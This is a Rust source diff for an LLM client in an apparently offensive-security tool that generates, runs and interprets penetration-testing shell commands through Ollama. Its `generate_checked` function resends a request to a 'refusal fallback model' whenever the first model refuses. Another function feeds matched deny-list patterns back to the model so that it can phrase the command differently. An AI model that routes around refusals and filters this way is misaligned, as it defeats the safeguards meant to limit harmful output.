+    /// Model, temperature and seed for a new command generation
+    fn command_params(&self, user_input: &str) -> GenerationParams {
+        GenerationParams {
+            model: self.config.model.clone(),
+            temperature: self.temperature_for(user_input),
+            seed: Some(self.config.seed.unwrap_or_else(random_u64)),
+        }
+    }
+
+    /// Stream a command generation for an already-built prompt
+    async fn stream_command(&self, prompt: &str, params: &GenerationParams) -> Result<StreamingResponse> {
+        let options = OllamaOptions {
+            temperature: params.temperature,
+            top_p: Some(0.9),
+            top_k: None,
+            max_tokens: Some(self.config.max_tokens),
+            stop: None,
+            seed: params.seed,
+            num_ctx: self.config.num_ctx,
+        };
+        self.stream_with_options(prompt, Some(&self.command_system_prompt()), options).await
+    }
+
+    /// Generate a different command for a request, using a higher temperature for this call only
+    ///
+    /// The prompt names the previous suggestion and asks for another technique. The
+    /// client's own temperature settings are left unchanged.
+    pub async fn generate_alternative(&self, 
+                                      user_input: &str, 
+                                      previous_command: &str, 
+                                      history: &[HistoryItem]) -> Result<GeneratedCommand> {
+        let current = self.temperature_for(user_input).unwrap_or(DEFAULT_TEMPERATURE);
+        let client = self.with_fixed_temperature(alternative_temperature(current));
+        let prompt = format!(
+            "{}\n\nThe previous suggestion was `{}`. Suggest a different approach, tool or technique for the same task; do not repeat that command.",
+            self.build_generate_prompt(user_input, history),
+            previous_command
+        );
+        client.generate_checked(user_input, &prompt).await
+    }
+
+    /// Generate the same request at each temperature, to show how temperature changes the output
+    ///
+    /// Generations run concurrently, at most `max_concurrent_loads` at a time. Returns
+    /// the outcome for each temperature in input order.
+    pub async fn temperature_sweep(&self, 
+                                   user_input: &str, 
+                                   history: &[HistoryItem], 
+                                   temperatures: &[f32]) -> Vec<(f32, Result<GeneratedCommand>)> {
+        let limit = Arc::new(Semaphore::new(self.config.max_concurrent_loads.max(1)));
+        
+        let generations = temperatures.iter().map(|&temperature| {
+            let limit = limit.clone();
+            let client = self.with_fixed_temperature(temperature);
+            async move {
+                // The semaphore is never closed, so acquiring can't fail
+                let _permit = limit.acquire().await.expect("sweep semaphore closed");
+                (temperature, client.generate_command_detailed(user_input, history).await)
+            }
+        });
+        
+        join_all(generations).await
+    }
+
+    /// A copy of the client that uses `model`, leaving this one unchanged
+    fn with_model(&self, model: &str) -> Self {
+        let mut client = self.clone();
+        client.config.model = model.to_string();
+        client
+    }
+
+    /// A copy of the client that generates up to `max_tokens` tokens, leaving this one unchanged
+    pub fn with_max_tokens(&self, max_tokens: u32) -> Self {
+        let mut client = self.clone();
+        client.config.max_tokens = max_tokens;
+        client
+    }
+
+    /// A copy of the client that generates at `temperature`, leaving this one unchanged
+    fn with_fixed_temperature(&self, temperature: f32) -> Self {
+        let mut client = self.clone();
+        client.config.temperature = Some(temperature);
+        client.config.adaptive_temperature = false;
+        client
+    }
+
+    /// Generate a command for a built prompt, retrying with the refusal fallback model if
+    /// the model refuses
+    ///
+    /// `params.model` of the result names the model that answered.
+    async fn generate_checked(&self, user_input: &str, prompt: &str) -> Result<GeneratedCommand> {
+        let generated = self.generate_allowed(user_input, prompt).await?;
+        
+        match &self.config.refusal_fallback_model {
+            Some(fallback) if *fallback != self.config.model && looks_like_refusal(&generated.command) => {
+                warn!("{} refused the request, retrying with {}", self.config.model, fallback);
+                self.with_model(fallback).generate_allowed(user_input, prompt).await
+            },
+            _ => Ok(generated),
+        }
+    }
+
+    /// Generate a command for a built prompt, regenerating once if it hits the deny-list
+    async fn generate_allowed(&self, user_input: &str, prompt: &str) -> Result<GeneratedCommand> {
+        let generated = self.generate_from_prompt(user_input, prompt).await?;
+        
+        // Regenerate once if the command matches the deny-list, naming the forbidden pattern
+        let pattern = match self.denied_pattern(&generated.command) {
+            Some(pattern) => pattern,
+            None => return Ok(generated),
+        };
+        warn!("Generated command matches denied pattern /{}/, regenerating", pattern);
+        let prompt = format!(
+            "{}\n\nThe command must NOT match the forbidden pattern /{}/. Use a different approach.",
+            prompt,
+            pattern
+        );
+        let generated = self.generate_from_prompt(user_input, &prompt).await?;
+        
+        if let Some(pattern) = self.denied_pattern(&generated.command) {
+            anyhow::bail!(
+                "Refusing to produce `{}`: it matches the denied pattern /{}/ configured for this session",
+                generated.command,
+                pattern
+            );
+        }
+        Ok(generated)
+    }
+
+    /// Run a single command generation for an already-built prompt
+    async fn generate_from_prompt(&self, user_input: &str, prompt: &str) -> Result<GeneratedCommand> {
+        // System prompt to guide the model's response style
+        let system = self.command_system_prompt();
+        
+        // Call the LLM
+        let params = self.command_params(user_input);
+        debug!("Using temperature {:?} and seed {:?} for command generation", params.temperature, params.seed);
+        let start = Instant::now();
+        let options = OllamaOptions {
+            temperature: params.temperature,
+            top_p: Some(0.9),
+            top_k: None,
+            max_tokens: Some(self.config.max_tokens),
+            stop: None,
+            seed: params.seed,
+            num_ctx: self.config.num_ctx,
+        };
+        let completion = self.generate_with_options(prompt, Some(&system), options.clone()).await?;
+        debug!("[{}] Raw response from LLM: {}", completion.request_id, completion.text);
+        let completion = if completion.truncated {
+            warn!("[{}] Command generation hit the token limit ({} tokens)", completion.request_id, self.config.max_tokens);
+            self.continue_generation(prompt, &system, options, completion).await?
+        } else {
+            completion
+        };
+        
+        // Clean the response to extract just the command
+        let command = self.finish_command(&completion.text);
+        info!("[{}] Generated command: {}", completion.request_id, command);
+        
+        if self.config.safe_mode {
+            check_safe_mode(&command)?;
+        }
+        
+        Ok(GeneratedCommand {
+            risk: assess_command(&command),
+            command,
+            truncated: completion.truncated,
+            done_reason: completion.done_reason,
+            params,
+            elapsed: start.elapsed(),
+            usage: completion.usage,
+            eval_duration: completion.eval_duration,
+            raw: completion.raw,
+        })
+    }
+
+    /// Ask the model to carry on from a completion that was cut off by the token limit
+    ///
+    /// Each continuation is appended to the text so far. Stops once the model finishes
+    /// or after `max_continuations` attempts, in which case the result is still truncated.
+    async fn continue_generation(&self, 
+                                 prompt: &str, 
+                                 system: &str, 
+                                 options: OllamaOptions, 
+                                 mut completion: Completion) -> Result<Completion> {
+        for attempt in 1..=self.config.max_continuations {
+            if !completion.truncated {
+                break;
+            }
+            info!("[{}] Continuing truncated generation (attempt {})", completion.request_id, attempt);
+            
+            let continuation_prompt = format!(
+                "{}\n\nYour previous answer was cut off by the length limit. This is what you wrote so far:\n{}\n\n\
+                 Continue exactly where it stopped. Output only the remaining text, without repeating anything.",
+                prompt,
+                completion.raw
+            );
+            let next = self.generate_with_options(&continuation_prompt, Some(system), options.clone()).await?;
+            completion.raw.push_str(&next.raw);
+            completion.text = completion.raw.trim().to_string();
+            completion.truncated = next.truncated;
+            completion.done_reason = next.done_reason;
+            completion.usage = match (completion.usage, next.usage) {
+                (Some(mut usage), Some(more)) => {
+                    usage.add(more);
+                    Some(usage)
+                }
+                (usage, more) => usage.or(more),
+            };
+            completion.eval_duration = match (completion.eval_duration, next.eval_duration) {
+                (Some(duration), Some(more)) => Some(duration + more),
+                (duration, more) => duration.or(more),
+            };
+        }
+        Ok(completion)
+    }
+
+    /// Re-run a past request with the exact model, temperature and seed it was generated with
+    ///
+    /// Records without a model (from before parameters were captured) use the current one.
+    pub async fn reproduce_command(&self, 
+                                   user_input: &str, 
+                                   history: &[HistoryItem], 
+                                   params: &GenerationParams) -> Result<GeneratedCommand> {
+        let mut client = self.clone();
+        if !params.model.is_empty() {
+            client.config.model = params.model.clone();
+            client.config.temperature = params.temperature;
+            client.config.adaptive_temperature = false;
+            client.config.seed = params.seed;
+        }
+        client.generate_command_detailed(user_input, history).await
+    }
+
+    /// Fail if `command` would have been refused had the model generated it: it matches
+    /// the deny-list, or safe mode blocks it
+    ///
+    /// Used for commands the user edited, which never went through generation.
+    pub fn check_command(&self, command: &str) -> Result<()> {
+        if let Some(pattern) = self.denied_pattern(command) {
+            anyhow::bail!("`{}` matches the denied pattern /{}/ configured for this session", command, pattern);
+        }
+        if self.config.safe_mode {
+            check_safe_mode(command)?;
+        }
+        Ok(())
+    }
+
+    /// A command from the knowledge base, presented as if it had been generated
+    ///
+    /// Fails if the deny-list or safe mode blocks it, as a generated command would.
+    pub fn known_command(&self, command: &str) -> Result<GeneratedCommand> {
+        self.check_command(command)?;
+        Ok(GeneratedCommand {
+            command: command.to_string(),
+            truncated: false,
+            done_reason: None,
+            params: GenerationParams::default(),
+            elapsed: Duration::ZERO,
+            usage: None,
+            eval_duration: None,
+            risk: assess_command(command),
+            raw: command.to_string(),
+        })
+    }
+
+    /// Return the first deny-list pattern the command matches
+    fn denied_pattern(&self, command: &str) -> Option<&str> {
+        self.denied_patterns
+            .iter()
+            .find(|pattern| pattern.is_match(command))
+            .map(Regex::as_str)
+    }
+
+    /// Build the command generation prompt from few-shot examples, the request and history
+    pub fn build_generate_prompt(&self, user_input: &str, history: &[HistoryItem]) -> String {
+        self.generate_prompt_parts(user_input, history).prompt()
+    }
+
+    /// Build the separate parts of the command generation prompt
+    pub fn generate_prompt_parts(&self, user_input: &str, history: &[HistoryItem]) -> PromptParts {
+        // Few-shot examples steer smaller models towards the expected output format
+        let examples = &self.config.few_shot_examples;
+        let examples_context = if examples.is_empty() || self.config.max_few_shot_examples == 0 {
+            String::new()
+        } else {
+            let mut context = "Here are examples of requests and the ideal command for each:\n\n".to_string();
+            for (request, command) in examples.iter().take(self.config.max_few_shot_examples) {
+                context.push_str(&format!("Request: {}\nCommand: {}\n\n", request, command));
+            }
+            context
+        };
+        
+        // Build context from history
+        let history_context = if self.config.use_history && !history.is_empty() {
+            let mut context = HISTORY_CONTEXT_HEADER.to_string();
+            for (i, item) in history.iter().rev().take(self.config.history_context_size).enumerate() {
+                context.push_str(&history_entry(i + 1, item, self.config.redact_history));
+            }
+            context
+        } else {
+            "No previous interaction history.".to_string()
+        };
+        
+        PromptParts {
+            system: self.command_system_prompt(),
+            examples: examples_context,
+            request: format!("Generate a shell command that accomplishes the following security task:\n\n{}\n\n", user_input),
+            history: history_context,
+        }
+    }
+
+    /// Character and estimated token counts for each part of the generation prompt
+    pub fn prompt_stats(&self, user_input: &str, history: &[HistoryItem]) -> Vec<PromptSection> {
+        let parts = self.generate_prompt_parts(user_input, history);
+        [
+            ("System prompt", &parts.system),
+            ("Few-shot examples", &parts.examples),
+            ("History context", &parts.history),
+            ("User input", &parts.request),
+        ]
+        .into_iter()
+        .map(|(name, text)| PromptSection {
+            name,
+            chars: text.chars().count(),
+            tokens: estimate_tokens(text),
+        })
+        .collect()
+    }
+
+    /// History context for the generation prompt that fits in `budget` tokens
+    ///
+    /// If the whole history fits it is included verbatim. Otherwise entries are ranked by
+    /// embedding similarity to `input`: the most relevant are kept verbatim while they fit,
+    /// the rest are cut to a one-line summary, and entries that don't fit even as a summary
+    /// are dropped. Kept entries stay in chronological order.
+    pub async fn build_compressed_context(&self, input: &str, history: &[HistoryItem], budget: usize) -> Result<String> {
+        let redact = self.config.redact_history;
+        let verbatim: Vec<String> = history.iter().enumerate().map(|(i, item)| history_entry(i + 1, item, redact)).collect();
+        let mut used = estimate_tokens(HISTORY_CONTEXT_HEADER);
+        if used + verbatim.iter().map(|entry| estimate_tokens(entry)).sum::<usize>() <= budget {
+            return Ok(format!("{}{}", HISTORY_CONTEXT_HEADER, verbatim.concat()));
+        }
+        
+        let mut texts = vec![input.to_string()];
+        texts.extend(history.iter().map(|item| {
+            format!("{}\n{}\n{}", item.user_input, item.command, truncate_middle(&history_result(item, redact), EMBED_RESULT_CHARS))
+        }));
+        let embeddings = self.embed(&texts).await?;
+        if embeddings.len() != texts.len() {
+            anyhow::bail!("Expected {} embeddings, got {}", texts.len(), embeddings.len());
+        }
+        
+        let mut ranked: Vec<(usize, f32)> = embeddings[1..]
+            .iter()
+            .map(|embedding| cosine_similarity(&embeddings[0], embedding))
+            .enumerate()
+            .collect();
+        ranked.sort_by(|a, b| b.1.total_cmp(&a.1));
+        
+        let mut kept: Vec<Option<String>> = vec![None; history.len()];
+        for (i, similarity) in ranked {
+            let summary = history_one_liner(&history[i], redact);
+            let entry = if used + estimate_tokens(&verbatim[i]) <= budget {
+                verbatim[i].clone()
+            } else if used + estimate_tokens(&summary) <= budget {
+                summary
+            } else {
+                debug!("Dropping history entry {} (similarity {:.2}) to fit the budget", i + 1, similarity);
+                continue;
+            };
+            used += estimate_tokens(&entry);
+            kept[i] = Some(entry);
+        }
+        
+        Ok(format!("{}{}", HISTORY_CONTEXT_HEADER, kept.into_iter().flatten().collect::<String>()))
+    }
+
+    /// Embed each text with the configured embedding model
+    async fn embed(&self, texts: &[String]) -> Result<Vec<Vec<f32>>> {
+        let request = EmbedRequest { model: &self.config.embedding_model, input: texts };
+        let response = self.send_with_failover("/api/embed", |url| {
+            self.client.post(url).timeout(self.request_timeout()).json(&request)
+        }).await?;
+        
+        if !response.status().is_success() {
+            return Err(ApiError::from_response(response).await.into());
+        }
+        let embed: EmbedResponse = response.json().await
+            .context("Failed to parse Ollama API response")?;
+        Ok(embed.embeddings)
+    }
+
+    /// System prompt for command generation, including the safe-mode rules and
+    /// Windows instructions when they apply
+    ///
+    /// A configured `command_system_prompt` replaces the built-in base prompt; the
+    /// style, platform, output format and safe-mode instructions are still added.
+    fn command_system_prompt(&self) -> String {
+        let mut prompt = self.config.command_system_prompt.as_deref().unwrap_or(COMMAND_SYSTEM_PROMPT).to_string();
+        prompt.push_str("\n\n");
+        prompt.push_str(self.config.command_style.instruction());
+        if self.config.target_os == Platform::Windows {
+            prompt.push_str("\n\n");
+            prompt.push_str(WINDOWS_TARGET_PROMPT);
+        }
+        if let Some(format) = self.config.output_format {
+            prompt.push_str(&format!(
+                "\n\nWhen using a tool that can write {} output (nmap, masscan, nuclei), make it write {} to stdout, e.g. nmap -oX -.",
+                format, format
+            ));
+        }
+        if self.config.safe_mode {
+            prompt.push_str("\n\n");
+            prompt.push_str(SAFE_MODE_PROMPT);
+        }
+        prompt
+    }
+
+    /// The configured interpretation system prompt, or the built-in one
+    fn interpret_base_prompt(&self) -> &str {
+        self.config.interpret_system_prompt.as_deref().unwrap_or(INTERPRET_SYSTEM_PROMPT)
+    }
+
+    /// Generate a command, run it and regenerate until the output indicates success
+    ///
+    /// `verify_fn` runs (or simulates) the command and returns its output. The model is then
+    /// asked whether that output shows the request succeeded; if not, a new command is generated
+    /// with the failed attempt as context. Stops after a fixed number of attempts.
+    pub async fn generate_verified<F, Fut>(&self, 
+                                           user_input: &str, 
+                                           history: &[HistoryItem], 
+                                           mut verify_fn: F) -> Result<VerifiedCommand>
+    where
+        F: FnMut(String) -> Fut,
+        Fut: Future<Output = Result<String>>,
+    {
+        let mut request = user_input.to_string();
+        let mut attempt = 0;
+        
+        loop {
+            attempt += 1;
+            let command = self.generate_command(&request, history).await?;
+            let output = verify_fn(command.clone()).await?;
+            let verified = self.verify_output(user_input, &command, &output).await?;
+            
+            if verified || attempt >= MAX_VERIFY_ATTEMPTS {
+                if !verified {
+                    warn!("Command could not be verified after {} attempts", attempt);
+                }
+                return Ok(VerifiedCommand { command, output, verified, attempts: attempt });
+            }
+            
+            info!("Attempt {} did not succeed, regenerating", attempt);
+            request = format!(
+                "{}\n\nA previous attempt did not succeed.\nCommand: {}\nOutput: {}\n\nGenerate a different command that fixes the problem.",
+                user_input,
+                command,
+                output
+            );
+        }
+    }
+
+    /// Ask the model whether a command's output shows that the request succeeded
+    async fn verify_output(&self, user_input: &str, command: &str, output: &str) -> Result<bool> {
+        let prompt = format!(
+            "Request: {}\nCommand: {}\nOutput:\n{}\n\nDoes the output indicate that the command accomplished the request? Answer only YES or NO.",
+            user_input,
+            command,
+            output
+        );
+        let system = "You are CommandStrike, a cybersecurity assistant. You judge whether command output shows success. Answer only YES or NO.";
+        
+        let answer = self.generate_with_temperature(&prompt, Some(system), Some(0.0)).await?.text;
+        debug!("Verification answer: {}", answer);
+        
+        Ok(answer.trim().to_uppercase().starts_with("YES"))
+    }
+
+    /// Explain in one sentence what a command will do, for the pre-execution checkpoint
+    pub async fn explain_briefly(&self, command: &str) -> Result<String> {
+        let prompt = format!("Command: {}", command);
+        let options = OllamaOptions {
+            temperature: Some(FACTUAL_TEMPERATURE),
+            top_p: Some(0.9),
+            top_k: None,
+            max_tokens: Some(BRIEF_EXPLANATION_MAX_TOKENS),
+            stop: Some(BRIEF_EXPLANATION_STOP.iter().map(ToString::to_string).collect()),
+            seed: None,
+            num_ctx: self.config.num_ctx,
+        };
+        
+        let completion = self.generate_with_options(&prompt, Some(BRIEF_EXPLAIN_SYSTEM_PROMPT), options).await?;
+        Ok(finish_sentence(&completion.text))
+    }
+
+    /// Whether history compaction is enabled
+    pub fn compact_history_enabled(&self) -> bool {
+        self.config.compact_history
+    }
+
+    /// Number of oldest entries to summarize, or None if history is within the threshold
+    ///
+    /// The most recent entries are always kept as they are, and at least two entries
+    /// must be summarized for compaction to be worthwhile.
+    pub fn compaction_split(&self, history: &[HistoryItem]) -> Option<usize> {
+        let size: usize = history
+            .iter()
+            .map(|item| item.user_input.len() + item.command.len() + item.result.len())
+            .sum();
+        let oldest = history.len().saturating_sub(COMPACT_KEEP_RECENT);
+        (size > self.config.compact_threshold_chars && oldest >= 2).then_some(oldest)
+    }
+
+    /// Summarize history entries into a single "session context so far" entry
+    ///
+    /// Results are masked with `redact_sensitive` first when history redaction is on.
+    pub async fn summarize_history(&self, items: &[HistoryItem]) -> Result<HistoryItem> {
+        let mut prompt = String::from(
+            "Summarize this penetration testing session so far. Keep every concrete fact that later \
+             commands may need: hosts, open ports, services and versions, credentials, paths, \
+             vulnerabilities and dead ends. Be concise and use bullet points.\n\n"
+        );
+        for (i, item) in items.iter().enumerate() {
+            prompt.push_str(&format!(
+                "Step {}: {}\nCommand: {}\nResult: {}\n\n",
+                i + 1,
+                item.user_input,
+                item.command,
+                truncate_middle(&history_result(item, self.config.redact_history), COMPACT_RESULT_CHARS)
+            ));
+        }
+        
+        let summary = self.generate_with_temperature(&prompt, Some(self.interpret_base_prompt()), Some(FACTUAL_TEMPERATURE)).await?;
+        Ok(HistoryItem {
+            user_input: SESSION_SUMMARY_INPUT.to_string(),
+            command: format!("(summary of {} earlier commands)", items.len()),
+            result: summary.text,
+            params: GenerationParams::default(),
+            interpretations: Vec::new(),
+            target: None,
+        })
+    }
+
+    /// Replace the oldest history entries with a model-written summary once history is too large
+    ///
+    /// Returns true if the history was compacted.
+    pub async fn compact_history(&self, history: &mut Vec<HistoryItem>) -> Result<bool> {
+        let Some(oldest) = self.compaction_split(history) else {
+            return Ok(false);
+        };
+        
+        let summary = self.summarize_history(&history[..oldest]).await?;
+        history.splice(..oldest, [summary]);
+        info!("Compacted {} history entries into a summary", oldest);
+        Ok(true)
+    }
+
+    /// Command output as it should be sent for interpretation
+    fn prepare_output<'a>(&self, result: &'a str) -> Cow<'a, str> {
+        if self.config.normalize_output {
+            Cow::Owned(normalize_output(result))
+        } else {
+            Cow::Borrowed(result)
+        }
+    }
+
+    /// Interpret the results of a command execution
+    pub async fn interpret_result(&self, result: &str, history: &[HistoryItem]) -> Result<String> {
+        debug!("Interpreting result: {}", result);
+        
+        let result = self.prepare_output(result);
+        let focus = self.config.interpret_focus;
+        let prompt = build_interpret_prompt(&result, self.config.max_interpret_input_chars, history, focus);
+        
+        // Call the LLM
+        let response = self.generate_with_timeout(&prompt, Some(&interpret_system_prompt(self.interpret_base_prompt(), focus))).await?;
+        debug!("Raw interpretation from LLM: {}", response);
+        
+        Ok(response)
+    }
+
+    /// Interpret a past command's output again with the current model, appending the result
+    ///
+    /// Gives a second opinion on earlier findings after switching to a stronger model.
+    pub async fn reinterpret<'a>(&self, item: &'a mut HistoryItem) -> Result<&'a Interpretation> {
+        if item.result.trim().is_empty() {
+            anyhow::bail!("`{}` has no stored output to interpret", item.command);
+        }
+        
+        let text = self.interpret_result(&item.result, std::slice::from_ref(item)).await?;
+        item.interpretations.push(Interpretation {
+            model: self.config.model.clone(),
+            text,
+        });
+        Ok(item.interpretations.last().unwrap())
+    }
+
+    /// Interpret the same output with each model, to compare their analyses
+    ///
+    /// Models run concurrently, at most `max_concurrent_loads` at a time; one model
+    /// failing doesn't affect the others. Returns the outcome for each model in input order.
+    pub async fn compare_interpretations(&self, 
+                                         result: &str, 
+                                         history: &[HistoryItem], 
+                                         models: &[String]) -> Vec<(String, Result<String>)> {
+        let limit = Arc::new(Semaphore::new(self.config.max_concurrent_loads.max(1)));
+        
+        let interpretations = models.iter().map(|model| {
+            let limit = limit.clone();
+            let client = self.with_model(model);
+            async move {
+                // The semaphore is never closed, so acquiring can't fail
+                let _permit = limit.acquire().await.expect("compare semaphore closed");
+                (model.clone(), client.interpret_result(result, history).await)
+            }
+        });
+        
+        join_all(interpretations).await
+    }
+
+    /// Stream the answer to a follow-up question about an interpretation
+    ///
+    /// The command, its output, the interpretation and every earlier exchange in the
+    /// thread are sent as context. Add the answer to `thread.exchanges` so it can be
+    /// followed up in turn.
+    pub async fn ask_follow_up(&self, thread: &FollowUpThread, question: &str) -> Result<StreamingResponse> {
+        debug!("Follow-up question: {}", question);
+        
+        let result = self.prepare_output(&thread.result);
+        let thread = FollowUpThread { result: result.into_owned(), ..thread.clone() };
+        let prompt = thread.prompt(question, self.config.max_interpret_input_chars);
+        self.stream_response(&prompt, Some(self.interpret_base_prompt())).await
+    }
+
+    /// Stream an explanation of what a command does
+    ///
+    /// With `concise` the model is asked for a 2-3 sentence summary and cut off by stop
+    /// sequences if it starts a breakdown; otherwise each part and its security
+    /// implications are explained in detail.
+    pub async fn stream_explanation(&self, command: &str, concise: bool) -> Result<StreamingResponse> {
+        if !concise {
+            let prompt = format!("Explain in detail what this command does and its security implications: {}", command);
+            return self.stream_response(&prompt, Some(EXPLAIN_SYSTEM_PROMPT)).await;
+        }
+        
+        let prompt = format!("Command: {}", command);
+        let options = OllamaOptions {
+            temperature: Some(FACTUAL_TEMPERATURE),
+            top_p: Some(0.9),
+            top_k: None,
+            max_tokens: Some(CONCISE_EXPLANATION_MAX_TOKENS),
+            stop: Some(CONCISE_EXPLANATION_STOP.iter().map(ToString::to_string).collect()),
+            seed: None,
+            num_ctx: self.config.num_ctx,
+        };
+        self.stream_with_options(&prompt, Some(CONCISE_EXPLAIN_SYSTEM_PROMPT), options).await
+    }
+
+    /// Interpret the results of a command execution, streaming the interpretation
+    pub async fn interpret_result_streaming(&self, result: &str, history: &[HistoryItem]) -> Result<StreamingResponse> {
+        debug!("Interpreting result (streaming): {}", result);
+        
+        let result = self.prepare_output(result);
+        let focus = self.config.interpret_focus;
+        let prompt = build_interpret_prompt(&result, self.config.max_interpret_input_chars, history, focus);
+        self.stream_response(&prompt, Some(&interpret_system_prompt(self.interpret_base_prompt(), focus))).await
+    }
+
+    /// Stream a response from the Ollama API
+    pub async fn stream_response(&self, 
+                                prompt: &str, 
+                                system: Option<&str>) -> Result<StreamingResponse> {
+        let options = OllamaOptions {
+            temperature: self.config.temperature,
+            top_p: Some(0.9),
+            top_k: None,
+            max_tokens: Some(self.config.max_tokens),
+            stop: None,
+            seed: None,
+            num_ctx: self.config.num_ctx,
+        };
+        self.stream_with_options(prompt, system, options).await
+    }
+
+    /// Stream a response from the Ollama API using explicit sampling options
+    async fn stream_with_options(&self, prompt: &str, system: Option<&str>, options: OllamaOptions) -> Result<StreamingResponse> {
+        let llm_request = LlmRequest {
+            model: split_model_digest(&self.config.model).0.to_string(),
+            system: system.map(ToString::to_string),
+            prompt: prompt.to_string(),
+            temperature: options.temperature,
+            max_tokens: options.max_tokens,
+            stop: options.stop.clone(),
+            seed: options.seed,
+        };
+        // The backend stays taken until the whole stream has been read
+        let slot = self.queue_slot().await?;
+        if let Some(backend) = &self.backend {
+            let cancel = self.cancellation_token();
+            let start = Instant::now();
+            let timings = self.config.stream_timings.then(|| Arc::new(Mutex::new(StreamTimings::default())));
+            let pieces = tokio::select! {
+                pieces = backend.stream(&llm_request) => pieces?,
+                _ = cancel.cancelled() => anyhow::bail!(ABORTED_MESSAGE),
+            };
+            let client = self.clone();
+            return Ok(StreamingResponse::from_pieces(pieces, cancel, start, timings, move |response| {
+                drop(slot);
+                client.record(&llm_request, response)
+            }));
+        }
+        
+        let request = OllamaRequest {
+            model: split_model_digest(&self.config.model).0.to_string(),
+            prompt: prompt.to_string(),
+            system: system.map(ToString::to_string),
+            stream: Some(true),
+            keep_alive: None,
+            options: Some(options),
+        };
+
+        // Create a channel for streaming responses
+        let (tx, rx) = mpsc::channel(100);
+        let final_response = Arc::new(Mutex::new(None));
+        let final_response_clone = final_response.clone();
+        let (done_tx, completion) = oneshot::channel();
+        let timings = self.config.stream_timings.then(|| Arc::new(Mutex::new(StreamTimings::default())));
+        let timings_clone = timings.clone();
+        
+        // The shared client only limits connecting, so long streams are not cut off
+        let streaming_client = self.client.clone();
+        
+        // Clone what we need for the task to avoid lifetime issues
+        let request_json = serde_json::to_string(&request)
+            .context("Failed to serialize request to JSON")?;
+        
+        let request_id = new_request_id();
+        debug!("[{}] Streaming prompt: {}", request_id, prompt);
+        
+        // The task ends early if `abort_all` is called while it is streaming
+        let cancel = self.cancellation_token();
+        let abort_tx = tx.clone();
+        let client = self.clone();
+        
+        let stream_task = async move {
+            let start = Instant::now();
+            let request = client.send_with_failover("/api/generate", |url| {
+                streaming_client.post(url)
+                    .header("Content-Type", "application/json")
+                    .body(request_json.clone())
+            });
+            let resp = match request.await {
+                    Ok(r) => r,
+                    Err(e) => {
+                        warn!("[{}] Streaming request failed: {:#}", request_id, e);
+                        let error = StreamError::Connect(format!("{:#}", e));
+                        let _ = tx.send(StreamChunk::Error(error.clone())).await;
+                        return Err(error.to_string());
+                    }
+                };
+            
+            if !resp.status().is_success() {
+                let error = StreamError::Api(ApiError::from_response(resp).await.to_string());
+                warn!("[{}] Streaming request failed: {}", request_id, error);
+                let _ = tx.send(StreamChunk::Error(error.clone())).await;
+                return Err(error.to_string());
+            }
+            
             let mut stream = resp.bytes_stream();
+            // Bytes of a line that hasn't been completed by a later chunk yet
+            let mut pending = Vec::new();
             let mut full_response = String::new();
+            let mut done_reason = None;
+            let mut usage = None;
+            let mut eval_duration = None;
+            let mut failure = None;
             
-            while let Some(chunk_result) = stream.next().await {
-                match chunk_result {
-                    Ok(chunk) => {
-                        if let Ok(text) = String::from_utf8(chunk.to_vec()) {
-                            // Each line is a separate JSON object
-                            for line in text.lines() {
-                                if let Ok(response) = serde_json::from_str::<OllamaResponse>(line) {
-                                    let _ = tx.send(response.response.clone()).await;
-                                    full_response.push_str(&response.response);
-                                    
-                                    if response.done {
-                                        break;
-                                    }
-                                }
-                            }
-                        }
+            'stream: loop {
+                // Stop reading as soon as nobody is listening, which closes the HTTP stream
+                let chunk = tokio::select! {
+                    chunk = stream.next() => chunk,
+                    _ = tx.closed() => {
+                        failure = Some(RECEIVER_DROPPED_MESSAGE.to_string());
+                        break;
                     }
-                    Err(e) => {
-                        let _ = tx.send(format!("Stream error: {}", e)).await;
+                };
+                let ended = match chunk {
+                    Some(Ok(bytes)) => {
+                        pending.extend_from_slice(&bytes);
+                        false
+                    }
+                    Some(Err(e)) => {
+                        warn!("[{}] Stream error: {}", request_id, e);
+                        let error = StreamError::MidStream(e.to_string());
+                        let _ = tx.send(StreamChunk::Error(error.clone())).await;
+                        failure = Some(error.to_string());
                         break;
                     }
+                    None if pending.is_empty() => break,
+                    // A last line without a newline is still a complete object
+                    None => {
+                        pending.push(b'\n');
+                        true
+                    }
+                };
+                
+                // Each line is a separate JSON object
+                while let Some(line) = next_line(&mut pending) {
+                    let Ok(response) = serde_json::from_str::<OllamaResponse>(&line) else {
+                        continue;
+                    };
+                    if let (Some(timings), false) = (&timings_clone, response.response.is_empty()) {
+                        if let Ok(mut guard) = timings.lock() {
+                            guard.chunks.push(start.elapsed());
+                        }
+                    }
+                    full_response.push_str(&response.response);
+                    if tx.send(StreamChunk::Token(response.response.clone())).await.is_err() {
+                        failure = Some(RECEIVER_DROPPED_MESSAGE.to_string());
+                        break 'stream;
+                    }
+                    
+                    if response.done {
+                        match response.done_reason() {
+                            Some(DoneReason::Length) => warn!("[{}] Stream hit the token limit", request_id),
+                            reason => debug!("[{}] Stream done, reason: {:?}", request_id, reason),
+                        }
+                        usage = response.usage();
+                        eval_duration = response.eval_duration();
+                        done_reason = response.done_reason;
+                        break 'stream;
+                    }
+                }
+                if ended {
+                    break;
+                }
+            }
+            
+            if failure.as_deref() == Some(RECEIVER_DROPPED_MESSAGE) {
+                debug!("[{}] Stream receiver dropped, closing the connection", request_id);
+            }
+            debug!("[{}] Stream finished: {}", request_id, full_response);
+            
+            // Store the full response before signalling completion
+            if let Ok(mut guard) = final_response_clone.lock() {
+                *guard = Some(full_response.clone());
+            }
+            match failure {
+                Some(message) => Err(message),
+                None => {
+                    let response = LlmResponse { text: full_response, done_reason, usage, eval_duration };
+                    client.record(&llm_request, &response);
+                    let _ = tx.send(StreamChunk::Done).await;
+                    Ok(response)
+                }
+            }
+        };
+        
+        // Spawn a task to handle the streaming response
+        tokio::spawn(async move {
+            let _slot = slot;
+            let outcome = tokio::select! {
+                outcome = stream_task => outcome,
+                _ = cancel.cancelled() => {
+                    let _ = abort_tx.send(StreamChunk::Error(StreamError::Aborted)).await;
+                    Err(ABORTED_MESSAGE.to_string())
+                }
+            };
+            let _ = done_tx.send(outcome);
+        });
+        
+        Ok(StreamingResponse {
+            receiver: rx,
+            final_response,
+            timings,
+            completion,
+        })
+    }
+
+    /// Generate a response with a timeout
+    async fn generate_with_timeout(&self, prompt: &str, system: Option<&str>) -> Result<String> {
+        Ok(self.generate_with_temperature(prompt, system, self.config.temperature).await?.text)
+    }
+
+    /// Generate a response with a timeout, using the given temperature instead of the configured one
+    async fn generate_with_temperature(&self, prompt: &str, system: Option<&str>, temperature: Option<f32>) -> Result<Completion> {
+        let options = OllamaOptions {
+            temperature,
+            top_p: Some(0.9),
